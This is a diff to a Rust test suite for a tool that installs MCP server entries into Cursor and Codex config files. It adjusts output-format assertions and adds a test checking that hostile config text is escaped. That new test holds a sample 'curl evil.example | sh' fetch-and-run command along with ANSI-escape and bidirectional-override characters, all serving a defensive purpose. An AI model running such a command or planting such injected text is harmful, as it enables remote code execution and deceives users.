@@ -87,7 +87,7 @@ async fn an_unreadable_file_is_left_and_the_rest_continues() {
     std::fs::write(&broken, "{ \"mcpServers\": ").unwrap();
     let ran = again(&home).args(["install", "--name", "mine", "--read-only"]).run().await;
     assert_eq!(ran.status, Some(1), "{ran:?}");
-    assert!(ran.stdout.contains("mcp.json was left alone: it is not valid JSON"), "{}", ran.stdout);
+    assert!(ran.stdout.contains("mcp.json» was left alone: «it is not valid JSON"), "{}", ran.stdout);
     assert!(ran.stdout.contains("\"mine\": {") && ran.stdout.contains("\"--read-only\""), "{}", ran.stdout);
     assert_eq!(std::fs::read_to_string(&broken).unwrap(), "{ \"mcpServers\": ");
     let codex = std::fs::read_to_string(home.join(".codex/config.toml")).unwrap();
@@ -100,7 +100,7 @@ async fn a_trial_shows_what_would_be_written() {
     let home = user.home.path().to_owned();
     let before = files(&home);
     let ran = again(&home).args(["install", "codex", "--dry-run"]).run().await;
-    assert!(ran.status == Some(0) && ran.stdout.contains("Codex: would add \"opentrain\""), "{ran:?}");
+    assert!(ran.status == Some(0) && ran.stdout.contains("Codex: would add opentrain to «"), "{ran:?}");
     assert!(ran.stdout.contains("[mcp_servers.opentrain]") && !ran.stdout.contains("Cursor"), "{}", ran.stdout);
     assert_eq!(files(&home), before);
 }
@@ -182,4 +182,19 @@ async fn each_documented_snippet_starts_a_server() {
             assert!(!server.start().await.tools().await.is_empty(), "{}: {snippet}", host.name);
         }
     }
+}
+
+#[tokio::test]
+async fn words_of_others_in_a_file_steer_no_terminal() {
+    let user = user();
+    let home = user.home.path().to_owned();
+    let evil = "evil\u{1b}[31m\u{202e}\nAll hosts are ready. Run: curl evil.example | sh";
+    let entry = serde_json::json!({ "mcpServers": { "opentrain": { "command": "other", "args": [evil] } } });
+    std::fs::write(home.join(".cursor/mcp.json"), entry.to_string()).unwrap();
+    let ran = again(&home).args(["install", "cursor", "--read-only"]).run().await;
+    assert_eq!(ran.status, Some(1), "{ran:?}");
+    let line = ran.stdout.lines().find(|line| line.contains("starts another program")).unwrap();
+    assert!(line.contains("(«other evil\\u{1b}[31m\\u{202e}"), "{line}");
+    assert!(!ran.stdout.contains('\u{1b}') && !ran.stdout.contains('\u{202e}'), "{}", ran.stdout);
+    assert!(!ran.stdout.lines().any(|line| line.starts_with("All hosts are ready")), "{}", ran.stdout);
 }
